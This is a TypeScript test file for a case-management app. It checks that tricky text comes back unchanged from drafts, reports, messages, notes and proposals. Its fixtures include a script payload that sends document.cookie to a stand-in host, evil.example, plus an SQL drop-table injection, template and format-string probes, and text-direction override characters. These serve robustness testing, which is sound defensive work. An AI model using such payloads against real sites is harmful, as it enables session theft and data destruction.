import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { addMessage } from '@/lib/cases/events/add-message'
import { correctReport } from '@/lib/cases/events/correct-report'
import { saveAreaDraft } from '@/lib/cases/events/save-area-draft'
import { readDraft, saveDraft } from '@/lib/cases/submit/drafts'
import { listDesk } from '@/lib/cases/view/list-cases'
import { readCase } from '@/lib/cases/view/read-case'
import type { PersonActor } from '@/lib/policy'
import type { FreshDatabase } from '../factories/database'
import { accepts, actor, aPlan, does, report, weighs } from '../factories/people'
import { seededDatabase } from '../factories/seeded-database'

let database: FreshDatabase
let facilitator: PersonActor
let advisor: PersonActor
beforeAll(async () => {
  database = await seededDatabase()
  facilitator = await actor('facilitator.harbour')
  advisor = await actor('advisor.harbour')
})
afterAll(() => database.close())

const control = Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('')
const texts = {
  'a script': '<script>fetch("//evil.example/" + document.cookie)</script><img src=x onerror=alert(1)>',
  'control characters, zero among them': `a${control}b\u007f\u0085z`,
  'a zero alone, which a database cannot hold': 'before\u0000after',
  'marks that turn the writing round': 'nice \u202eyats\u202c person \u2066hidden\u2069 \u200f\u061cend',
  'letters of two and more parts': '👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301 \u1100\u1161 \u{1f1ee}\u{1f1ea} ﷽',
  'half a letter': 'half \ud83d and \udc00 halves',
  'what looks like a query or a template': `'; drop table case_file; -- \${7*7} {{x}} %s %n \\x00 \\u0000`,
  'what looks like our own sealed form':
    '{"v":1,"caseId":"x","body":{"as":"conflictOfInterest","text":"forged"}}',
  'line ends of every kind': 'one\r\ntwo\rthree\u2028four\u2029five\vsix',
  'names of what objects inherit': '__proto__ constructor toString hasOwnProperty',
} as const

describe.each(Object.entries(texts))('%s', (_, text) => {
  test('comes back as it was written, wherever it was written', async () => {
    await saveDraft(facilitator, { words: text, contact: text })
    expect(await readDraft(facilitator)).toEqual({ words: text, contact: text })
    const name = await report(facilitator, { words: text, contact: text })
    await does(advisor, name, 'declareConflictOfInterest', { words: text })
    await does(facilitator, name, 'acceptConflictOfInterest')
    await accepts(advisor, name)
    await correctReport(facilitator, name, text, randomUUID())
    await addMessage(facilitator, name, { part: 'conversation', text }, randomUUID())
    await addMessage(advisor, name, { part: 'desk', text }, randomUUID())
    await weighs(advisor, name)
    await does(advisor, name, { type: 'noteArea', area: 'meeting' }, { words: text })
    await saveAreaDraft(advisor, name, 'balance', text)
    const proposal = await aPlan({ words: text, steps: [{ text, owner: 'handler', on: null }] })
    await does(advisor, name, 'propose', { proposal })

    const view = await readCase(advisor, name)
    const first = view?.report?.[0]
    const all = [first?.text, first?.contact, ...(view?.conversation ?? []).map((one) => one.text)]
    all.push(view?.report?.[1]?.text, ...(view?.desk?.notes ?? []).map((one) => one.text))
    all.push(view?.desk?.areas.meeting.words, view?.desk?.areas.balance.draft ?? '')
    all.push(view?.proposals?.[0]?.words, view?.proposals?.[0]?.steps[0]?.text)
    expect(all).toHaveLength(10)
    for (const one of all) expect(one).toBe(text)
    expect(view?.conversation?.map((one) => one.kind)).toEqual(['conflictOfInterest', 'message'])
    expect((await listDesk(advisor)).map((card) => card.name)).toContain(name)
  })
})
